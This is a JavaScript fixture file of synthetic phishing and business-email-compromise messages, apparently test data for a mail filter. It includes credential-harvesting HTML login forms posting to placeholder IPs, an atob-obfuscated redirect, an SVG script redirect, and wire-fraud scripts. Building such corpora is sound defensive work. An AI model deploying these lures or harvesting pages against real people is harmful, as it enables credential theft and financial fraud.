'use strict';
const A = require('../build-attachments.cjs');
const CRM = 'Valley CRM Mailer 3.8';
const P = (slug, date, from, to, subject, text, more = {}) => ({ slug, cat: 'phishing', date, from, to, subject, text, ...more });
const owaForm = (title, action) => `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${title}</title></head><body style="font-family:Segoe UI,Arial"><div style="width:340px;margin:80px auto"><h3>${title}</h3><p>Your session has expired. Sign in to view the document.</p><form method="POST" action="${action}"><input name="login" type="email" placeholder="Email" style="width:100%"><br><br><input name="passwd" type="password" placeholder="Password" style="width:100%"><br><br><button type="submit">Sign in</button></form></div></body></html>`;
module.exports = [
P('m365-password-expiry-ip', '2025-03-03 06:14:00 +0000', 'Microsoft 365 Admin <admin@m365-notify-center.com>', 'lortega@brightfield-foods.example', 'Password expires today - action required',
`Your password for lortega@brightfield-foods.example expires today. Keep your current password: http://203.0.113.77/owa/keep?u=lortega@brightfield-foods.example`,
{ html: `<p>Dear user,</p><p>The password for <b>lortega@brightfield-foods.example</b> expires <b>today</b>. To keep using your current password, verify below:</p><p><a href="http://203.0.113.77/owa/keep?u=lortega@brightfield-foods.example" style="background:#0078d4;color:#fff;padding:8px 16px;text-decoration:none">Keep Current Password</a></p><p>Microsoft 365 Team</p>` }),
P('paypal-limited-lookalike', '2025-05-11 09:30:00 +0000', 'PayPal <service@paypa1-resolution.com>', 'billing@ferncliff-retail.example', 'Your account has been limited',
`We noticed unusual activity. Your account is limited until you confirm your information at https://paypa1-resolution.com/webapps/restore`,
{ html: `<div style="font-family:Arial;max-width:560px"><img alt="PayPal"><p>Hello,</p><p>We noticed some unusual activity in your PayPal account. For your protection, we've temporarily limited what you can do.</p><p>Please log in at <a href="https://paypa1-resolution.com/webapps/restore?case=PP-449120">www.paypal.com</a> and confirm your details within 24 hours to restore full access.</p><p>Sincerely,<br>PayPal</p></div>` }),
P('dhl-customs-fee-bitly', '2025-07-07 11:02:00 +0200', 'DHL Express <noreply@dhl-paketzustellung.info>', 'einkauf@buero-lehmann.example', 'Ihre Sendung wartet: Zollgebühr 2,99 € offen', `Sehr geehrter Kunde, Ihre Sendung 00340434161299 konnte nicht zugestellt werden, da eine Zollgebühr von 2,99 € offen ist. Bitte zahlen Sie innerhalb von 48 Stunden: https://bit.ly/dhl-zoll-2991
Danach wird das Paket an den Absender zurückgeschickt.`, { lang: 'de' }),
P('valleycrm-lookalike-session', '2025-09-12 14:22:00 +0000', 'Valley CRM <security@valley-crm-support.com>', 'admin@kestrel-solar.example', 'Unusual login blocked - verify your workspace',
`We blocked a login attempt. Verify your workspace: https://valley-crm-support.com/verify`,
{ html: `<p>Hi,</p><p>We blocked a sign-in to your Valley CRM workspace from Lagos, Nigeria. If this wasn't you, verify your account now or your workspace will be locked.</p><p><a href="https://valley-crm-support.com/login/verify?ws=kestrel">https://app.valleycrm.example/login</a></p><p>Valley CRM Security</p>` }),
P('docusign-fake-complete', '2025-04-23 16:40:00 +0000', 'DocuSign via Harbor Title <dse@docusign-envelope.net>', 'gina@morales-properties.example', 'Completed: Closing documents - 1140 Alder St - please review',
`All parties have completed "Closing documents - 1140 Alder St". Review documents: https://docusign-envelope.net/e/9f2c`,
{ html: `<div style="background:#1e1e1e;color:#fff;padding:20px;text-align:center"><p>All parties have completed</p><h3>Closing documents - 1140 Alder St</h3><a href="https://docusign-envelope.net/e/9f2c11a7?r=gina" style="background:#ffc820;color:#000;padding:10px 20px;text-decoration:none">REVIEW DOCUMENT</a></div><p style="font-size:11px">Do not share this email. Powered by DocuSign</p>` }),
P('sharepoint-share-compromised-vendor', '2025-10-22 08:47:00 -0500', 'Amy Nguyen <amy.nguyen@cedarline-furniture.example>', 'cmendez@lonestar-freight.example', 'Amy Nguyen shared "Q4 Rate Agreement.pdf" with you',
`Amy Nguyen shared a file with you: Q4 Rate Agreement.pdf. Open: https://cedarline-my.sharepoint-docs-view.com/:b:/g/personal/amy/EaX9`,
{ html: `<table style="font-family:Segoe UI"><tr><td><p><b>Amy Nguyen</b> shared a file with you</p><p>Here's the updated rate agreement we discussed, please review and sign by Friday.</p><p>📄 Q4 Rate Agreement.pdf</p><a href="https://cedarline-my.sharepoint-docs-view.com/:b:/g/personal/amy/EaX9kTq2?e=1" style="background:#0078d4;color:#fff;padding:8px 18px;text-decoration:none">Open</a><p style="font-size:10px;color:#666">Microsoft respects your privacy.</p></td></tr></table>` }),
P('voicemail-html-attachment', '2025-06-09 13:13:00 +0000', 'Voice Mail System <voicemail@pbx-cloudnotify.net>', 'office@winslow-physio.example', 'New voicemail from +1 (555) 014-2233 (0:47)',
`You have a new voice message (0:47). Play the attached file.`,
{ att: [{ name: 'VM_0047_sec.wav.html', type: 'text/html', content: owaForm('Voice Message Portal', 'http://198.51.100.44/vm/auth.php') }] }),
P('owa-login-htm-attach', '2025-02-14 10:10:00 +0000', 'Payroll Department <payroll@hayes-manufacturing.example>', 'rhayes@hayes-manufacturing.example', 'Revised salary schedule 2025 (confidential)',
`Please see the attached revised salary schedule. Login with your company email to view.

HR & Payroll`, { returnPath: 'x@mailer-bulk-relay.example', midDomain: 'mailer-bulk-relay.example', att: [{ name: 'Salary_Schedule_2025.htm', type: 'text/html', content: owaForm('Outlook Web App', 'https://203.0.113.9/owa/post.php') }] }),
P('shtml-atob-redirect', '2025-11-03 07:51:00 +0000', 'Accounts Payable <ap@summit-medlcal-group.example>', 'accounts@hart-cleaning.example', 'Remittance advice - payment 11/03',
`Payment released. See attached remittance.`, { att: [{ name: 'Remittance_Advice_1103.shtml', type: 'text/html', content: `<html><body><script>var u=atob("aHR0cDovLzE5OC41MS4xMDAuMTIvcmVtaXQvbG9naW4="); window.location.href=u+"?e="+"accounts@hart-cleaning.example";</script><p>Loading document...</p></body></html>` }] }),
P('qr-mfa-reset', '2025-08-18 09:00:00 +0000', 'IT Service Desk <it-support@monroe-law-it.com>', 'lmonroe@monroe-law.example', 'Action required: re-register multi-factor authentication',
`Scan the QR code with your phone to keep access.`, { html: `<p>Dear staff member,</p><p>Our multi-factor authentication is being upgraded. Accounts not re-registered by end of day will be disabled.</p><p>Scan the code below with your phone camera:</p><p><img src="cid:mfa-qr" width="165" height="165" alt="QR"></p><p>IT Service Desk</p>`, inline: [{ cid: 'mfa-qr', name: 'qr.png', type: 'image/png', content: A.qrLike('mfa-reset-phish') }] }),
P('qr-pdf-benefits', '2026-01-12 08:30:00 +0000', 'HR Benefits <benefits@hr-openenrollment.net>', 'hr@pinebrook-clinic.example', '2026 benefits enrollment closes Friday',
`Open enrollment for 2026 closes this Friday. See attached notice and scan the QR code to confirm your elections.`,
{ att: [{ name: 'Benefits_Enrollment_2026.pdf', type: 'application/pdf', content: A.pdf('2026 Benefits Enrollment', ['Your elections must be confirmed by Friday.', 'Scan the QR code on this page with your phone.', 'Employees who do not confirm will lose coverage.', '', '[QR CODE]']) }] }),
P('amazon-callback-no-link', '2025-12-04 19:20:00 +0000', 'Amazon Orders <order-update@amazon-billingdept.com>', 'hello@fernandcolour.example', 'Your order of Apple MacBook Pro 16" ($2,849.99) has shipped',
`Hello,

Thank you for your order #112-5550192-7781.
  Apple MacBook Pro 16-inch, M4 Max - $2,849.99
  Delivery: Tomorrow by 9pm

If you did NOT place this order, call our fraud department immediately at +1 (888) 555-0147 to
cancel and receive a full refund. Do not reply to this email.

Amazon Customer Service
`),
P('geek-squad-renewal-pdf', '2025-03-25 15:05:00 +0000', 'Billing Support <invoice.renewal@techguard-protect.net>', 'owner@brightline-tutors.example', 'Your subscription renewed: $399.99 charged',
`Thank you for renewing TechGuard Total Protection. $399.99 has been charged. Invoice attached.
To cancel within 24 hours call +1 (808) 555-0163.`,
{ att: [{ name: 'Invoice_TG-88190.pdf', type: 'application/pdf', content: A.pdf('INVOICE TG-88190', ['TechGuard Total Protection - 3 years, 5 devices', 'Amount charged: $399.99', '', 'Not authorised? Call +1 (808) 555-0163 within 24 hours for a refund.']) }] }),
P('hmrc-tax-refund', '2025-04-30 12:00:00 +0100', 'HMRC <refunds@hmrc-taxrefund-gov.uk.com>', 'ian@douglas-boatyard.example', 'Tax refund notification: you are owed £478.21',
`After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of £478.21. Submit your claim: https://hmrc-taxrefund-gov.uk.com/claim?ref=UTR5521`),
P('fr-impots-remboursement', '2025-06-17 10:00:00 +0200', 'DGFiP <ne-pas-repondre@impots-remboursement-fr.com>', 'cabinet@kine-lefebvre.example', 'Avis de remboursement : 312,40 €',
`Bonjour, après vérification de votre déclaration, vous pouvez bénéficier d'un remboursement de 312,40 €. Remplissez le formulaire sous 72 h : https://impots-remboursement-fr.com/particulier/rembt`, { lang: 'fr' }),
P('bec-ceo-gift-cards', '2025-11-26 08:02:00 -0500', 'Robert Hayes <robert.hayes.ceo@webmail-free.example>', 'Grace Liu <grace.liu@northstar-training.example>', 'Quick favor',
`Hi Grace,

Are you at your desk? I need you to handle a quick task for me. I'm in a meeting and can't talk
on the phone. I want to surprise some staff with gift cards. Can you purchase 6 Apple gift cards
at $200 each? I'll reimburse you today.

Let me know when you're ready and I'll tell you what to do next.

Robert
Sent from my iPad`, { eol: 'lf', mailer: 'iPad Mail (21F90)' }),
P('bec-wire-urgent', '2025-09-29 10:41:00 +0100', '"Rebecca Hollins" <rebecca.hollins@hollins-packagng.example>', 'Accounts <accounts@hollins-packaging.example>', 'Confidential - acquisition payment today',
`Hi,

We are finalising a confidential acquisition and I need you to process a payment of £48,300 to
the solicitor today before 3pm. Details below. Please don't discuss with anyone else in the
office until the announcement next week.

Beneficiary: Carter & Lane Legal Services
Sort code: 00-00-00  Account: 00009921

Confirm by email once done. I'm in meetings all day.

Rebecca`),
P('payroll-diversion', '2025-05-27 07:30:00 -0700', 'Tyler Brooks <tyler.brooks.sunridge@webmail-free.example>', 'Payroll <payroll@sunridge-hvac.example>', 'Direct deposit update',
`Hello,

I changed banks and need to update my direct deposit before the next payroll. What info do you
need from me? Please can it be effective for this Friday's run.

Thanks,
Tyler`),
P('bank-detail-change-reply', '2025-08-14 11:05:00 +0100', 'Ellie - Marlow Catering <accounts@marlow-caterlng.example>', 'Jo Pike <jo.pike@pike-events.example>', 'Re: Friendly reminder: invoice MC-2207 is 10 days overdue',
`Hi Jo,

Sorry for the confusion - please do NOT use the bank details on the invoice. Our account is
being audited and payments to it are on hold. Please send the £2,460.00 to our new account:

Account name: Marlow Catering Services
Sort code: 00-00-00
Account no: 00007788

Let me know once sent so I can update the ledger.

Ellie
Accounts, Marlow Catering`, { headers: { 'In-Reply-To': '<friendly-reminder-mc2207@marlow-catering.example>' } }),
P('netflix-payment-failed', '2025-10-02 21:00:00 +0000', 'Netflix <billing@netflix-account-hold.xyz>', 'maria.lopez@lopez-insurance.example', 'Your membership is on hold',
`We couldn't process your last payment. Update your payment details: https://netflix-account-hold.xyz/billing`,
{ html: `<div style="background:#000;color:#fff;padding:24px;font-family:Helvetica"><h2 style="color:#e50914">NETFLIX</h2><p>We're having trouble with your current billing information. Your membership will be cancelled in 48 hours.</p><a href="https://netflix-account-hold.xyz/billing/update?id=44f" style="background:#e50914;color:#fff;padding:10px 20px;text-decoration:none">UPDATE ACCOUNT</a></div>` }),
P('linkedin-lookalike', '2025-02-03 13:00:00 +0000', 'LinkedIn <messages-noreply@linkedln-mail.com>', 'Laura Kim <laura.kim@bluepeak-consulting.example>', 'You have 4 new messages',
`You have 4 new messages. View: https://linkedln-mail.com/messaging/thread`, { html: `<p>Hi Laura, you have <b>4 new messages</b> waiting, including one from a recruiter at Deloitte.</p><p><a href="https://linkedln-mail.com/comm/messaging?trk=eml">View messages</a></p>` }),
P('apple-id-tinyurl', '2025-07-29 17:17:00 +0000', 'Apple Support <no_reply@appleid-secure-check.com>', 'kevin@trailhead-av.example', 'Your Apple ID was used to sign in on a new iPhone',
`Your Apple ID was used to sign in to iCloud on an iPhone 15 in Kyiv. If this wasn't you, secure your account: https://tinyurl.com/appleid-lock-8821`),
P('bbva-es-bloqueo', '2025-03-13 08:30:00 +0100', 'BBVA <avisos@bbva-seguridad-clientes.com>', 'marta.gil@clinicadental-gil.example', 'Aviso: su tarjeta ha sido bloqueada temporalmente',
`Estimado cliente, hemos detectado un cargo no reconocido de 689,00 €. Su tarjeta ha sido bloqueada. Para desbloquearla verifique su identidad: http://198.51.100.73/bbva/es/verificar`, { lang: 'es' }),
P('ing-nl-pas-vervalt', '2025-11-17 09:45:00 +0100', 'ING <service@ing-betaalpas-vernieuwen.com>', 'p.bakker@bakker-accountants.example', 'Uw betaalpas verloopt - vraag vandaag een nieuwe aan',
`Geachte klant, uw betaalpas verloopt binnenkort. Om uw rekening actief te houden moet u vóór 20 november uw gegevens bevestigen via https://ing-betaalpas-vernieuwen.com/nl/particulier`, { lang: 'nl' }),
P('sparkasse-pushtan', '2025-06-25 07:00:00 +0200', 'Sparkasse <kundenservice@sparkasse-pushtan-update.de.com>', 'kontakt@physio-wagner.example', 'Wichtig: Ihr pushTAN-Verfahren muss erneuert werden',
`Sehr geehrte Kundin, sehr geehrter Kunde,

ab dem 1. Juli wird das pushTAN-Verfahren umgestellt. Bitte führen Sie die Aktualisierung bis
spätestens 30.06. durch, sonst wird Ihr Online-Banking gesperrt:

https://sparkasse-pushtan-update.de.com/registrierung

Ihre Sparkasse`, { lang: 'de' }),
P('poste-it-pacco', '2025-09-03 12:30:00 +0200', 'Poste Italiane <notifiche@poste-consegna-it.top>', 'clienti@impresa-rossetti.example', 'Il tuo pacco è in giacenza',
`Il tuo pacco è in giacenza per indirizzo incompleto. Per la riconsegna paga 1,99 € entro 24 ore: https://poste-consegna-it.top/giacenza/IT5521`, { lang: 'it' }),
P('pt-ctt-entrega', '2025-12-09 10:10:00 +0000', 'CTT Expresso <info@ctt-entregas-pt.live>', 'geral@padaria-estrela.example', 'A sua encomenda aguarda pagamento de portes',
`A sua encomenda RR555012PT está retida. Pague 1,49 € de portes para agendar a entrega: https://ctt-entregas-pt.live/pagamento`, { lang: 'pt' }),
P('pl-inpost-doplata', '2026-01-22 14:40:00 +0100', 'InPost <powiadomienia@inpost-doplata.info>', 'a.wojcik@hurtownia-wojcik.example', 'Paczka czeka na dopłatę 1,99 zł',
`Twoja paczka nie może zostać dostarczona z powodu brakującej dopłaty (1,99 zł). Zapłać w ciągu 24 godzin, inaczej paczka wróci do nadawcy: https://inpost-doplata.info/pl/platnosc`, { lang: 'pl' }),
P('zoom-meeting-lookalike', '2025-08-06 15:55:00 +0000', 'Zoom <no-reply@zoom-meetings-invite.us>', 'noah@cloudkeel.example', 'Missed meeting: Board review - recording available',
`You missed a meeting. Watch the recording: https://zoom-meetings-invite.us/rec/share/board-review`, { html: `<p>You missed a scheduled meeting with Emma Stone.</p><p>Topic: Board review Q3<br>Recording (38 min) is available for 24 hours.</p><p><a href="https://zoom-meetings-invite.us/rec/share/board-review?pwd=xk2">Watch recording</a></p>` }),
P('mailbox-quota-ipport', '2025-01-21 04:40:00 +0000', 'Mail Administrator <postmaster@mail-quota-admin.com>', 'info@bayside-chiro.example', 'Mailbox full: 98% (incoming mail on hold)',
`Your mailbox info@bayside-chiro.example is 98% full. 14 incoming messages are on hold. Release them: http://192.0.2.115:8080/release?mb=info@bayside-chiro.example`),
P('ups-at-ip-trick', '2025-10-28 11:11:00 +0000', 'UPS Delivery <tracking@ups-delivery-notice.net>', 'receiving@ohio-river-pumps.example', 'Delivery attempt failed - reschedule',
`We attempted delivery of your package 1Z555A0Y0311. Reschedule: https://www.ups.com@198.51.100.90/reschedule`, { html: `<p>We attempted to deliver your package today but no one was available to sign.</p><p><a href="https://www.ups.com@198.51.100.90/reschedule?id=1Z555A0Y0311">https://www.ups.com/reschedule</a></p>` }),
P('metamask-punycode', '2025-04-02 02:00:00 +0000', 'MetaMask <support@xn--metmask-lza.io>', 'dev@cartly-integrations.example', 'Wallet verification required to avoid suspension',
`Due to new KYC rules your wallet must be verified before April 5. Verify here: https://xn--metmask-lza.io/verify - you will need your Secret Recovery Phrase.`),
P('google-docs-abused-host', '2025-05-19 16:30:00 -0700', 'Priya Raman <priya.raman.ledgerleaf@webmail-free.example>', 'ops@copperkettle-bakery.example', 'Proposal document for your review',
`Hi,

I've shared a proposal document with you via Google Docs. Please click below to view.

https://docs.google.com/presentation/d/e/2PACX-1vQfakeDeck0987654321/pub

You'll need to sign in with your email to view the pricing page.

Priya`),
P('firebase-webapp-login', '2025-12-16 12:12:00 +0000', 'Document Center <share@filetransfer-secure.net>', 'purchasing@millbrook-cider.example', 'Purchase order PO-77812 shared with you',
`A purchase order has been shared with you. View online: https://po-viewer-77812.web.app/login.html`),
P('ipfs-hosted-login', '2025-03-28 09:09:00 +0000', 'Webmail Support <support@webmail-upgrade-notice.com>', 'info@reidjoinery.example', 'Webmail upgrade - re-validate before shutdown',
`Your webmail account is scheduled for an upgrade. Accounts not re-validated within 24 hours will be deactivated: https://ipfs.io/ipfs/bafybeigfakecid0123456789abcdef/index.html#info@reidjoinery.example`),
P('ics-invite-phish', '2025-09-22 08:00:00 +0000', 'HR Team <hr@oakfield-logistic.example>', 'staff@oakfield-logistics.example', 'Mandatory: updated holiday policy review (calendar)',
`Please accept the attached meeting. Review the policy via the link in the invite before attending.`,
{ att: [{ name: 'policy-review.ics', type: 'text/calendar; method=REQUEST', content: A.ics({ uid: 'pol-0922@oakfield-logistic.example', start: '20250923T100000', end: '20250923T103000', tz: 'Europe/London', summary: 'Mandatory: holiday policy review', description: 'Sign in to acknowledge the new policy before the session: https://oakfield-hr-portal.live/policy/ack', organizer: { name: 'HR Team', email: 'hr@oakfield-logistic.example' } }) }] }),
P('svg-attach-redirect', '2025-07-15 10:45:00 +0000', 'Fax Service <efax@fax-delivery-cloud.com>', 'office@bennett-hvac.example', 'You have received a 3-page fax',
`You have received a new fax (3 pages). Open the attached document.`, { att: [{ name: 'Fax_3pages.svg', type: 'image/svg+xml', content: `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="200"><text x="10" y="40">Loading fax...</text><script type="text/javascript">window.location="http://203.0.113.61/fax/view?u=office@bennett-hvac.example";</script></svg>` }] }),
P('stripe-payout-lookalike', '2025-02-24 18:10:00 +0000', 'Stripe <support@stripe-payouts-verify.com>', 'billing@bramble-analytics.example', 'Payouts paused: verify your bank account',
`Your payouts have been paused because we couldn't verify your bank account. Verify now: https://stripe-payouts-verify.com/dashboard/verify`, { html: `<p>Hi there,</p><p>Your payouts to the account ending 0042 have been paused. Pending balance: <b>$14,208.55</b>.</p><p><a href="https://stripe-payouts-verify.com/dashboard/verify?acct=br">https://dashboard.stripe.com/settings/payouts</a></p><p>- The Stripe team</p>` }),
P('invoice-fraud-new-vendor', '2026-02-26 09:20:00 -0500', 'Accounts Receivable <ar@tristate-equlpment.example>', 'Ron Pruitt <ron@pruitt-excavating.example>', 'Updated invoice INV-88341 - new remittance address',
`Mr. Pruitt,

Attached is the corrected invoice INV-88341. Please note our remittance details have changed as
of this month due to a change of bank. Kindly make the overdue payment of $2,692.40 to the new
account shown on the invoice, and disregard any previous instructions.

Accounts Receivable
Tri-State Equipment Rental`, { att: [{ name: 'INV-88341-corrected.pdf', type: 'application/pdf', content: A.pdf('INVOICE INV-88341 (corrected)', ['Tri-State Equipment Rental', 'Amount: $2,692.40', 'NEW BANK: Coastal Trust, acct 000000009912, routing 000000000', 'Old account no longer in use.']) }] }),
P('adobe-pdf-inside-link', '2025-11-10 13:30:00 +0000', 'Adobe Document Cloud <no-reply@adobe-doc-cloud.net>', 'Lisa Monroe <lmonroe@monroe-law.example>', 'Secure document: Settlement agreement',
`You have a secure document waiting. Open the attached PDF and click "View Document".`, { att: [{ name: 'Settlement_Agreement_secure.pdf', type: 'application/pdf', content: A.pdf('Adobe Secure Document', ['This document is protected.', 'Click VIEW DOCUMENT below to sign in and unlock it.', '', '[ VIEW DOCUMENT ]'], { links: [{ rect: [56, 700, 250, 720], uri: 'https://adobe-doc-cloud.net/view/settlement?u=lmonroe' }] }) }] }),
P('coinbase-withdrawal-callback', '2025-10-13 03:10:00 +0000', 'Coinbase <alerts@coinbase-security-team.com>', 'finance@oakridge-clinic.example', 'Withdrawal of 0.42 BTC requested',
`A withdrawal of 0.42 BTC ($27,880) to bc1q00000000000000000000000000ext was requested from your account.

If you did not request this, call Coinbase Support immediately at +1 (855) 555-0182 to cancel. Our agents are available 24/7.`),
];
